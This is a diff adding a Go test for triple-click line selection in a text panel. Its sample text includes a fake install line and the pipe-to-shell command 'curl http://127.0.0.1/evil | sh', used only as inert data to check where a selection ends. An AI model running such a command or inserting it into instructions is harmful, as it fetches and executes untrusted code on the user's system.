@@ -292,6 +292,21 @@ func TestSelect_LineIsWhatIsVisible(t *testing.T) {
 	}
 }
 
+// A line break of a text ends the line that three clicks select, also where the text is one paragraph of a panel.
+func TestSelect_LineEndsAtItsBreak(t *testing.T) {
+	m := newMouse(t, 40, 12, func(_ *painted, c *app.Canvas) {
+		d := doc.On(c.Box(nil, nil, true))
+		d.Text(c.Pal.Text, "Install: npm i good-pkg\ncurl http://127.0.0.1/evil | sh and more words that are folded", doc.All)
+		d.Paint()
+	})
+	if got := m.click(3, 3, 1); got != "Install: npm i good-pkg" {
+		t.Errorf("copied %q", got)
+	}
+	if got := m.click(3, 3, 2); got != "curl http://127.0.0.1/evil | sh and more words that are folded" {
+		t.Errorf("copied %q", got)
+	}
+}
+
 // A word that a fold has broken is one word.
 func TestSelect_WordInSeveralRows(t *testing.T) {
 	m := newMouse(t, 40, 12, func(_ *painted, c *app.Canvas) {
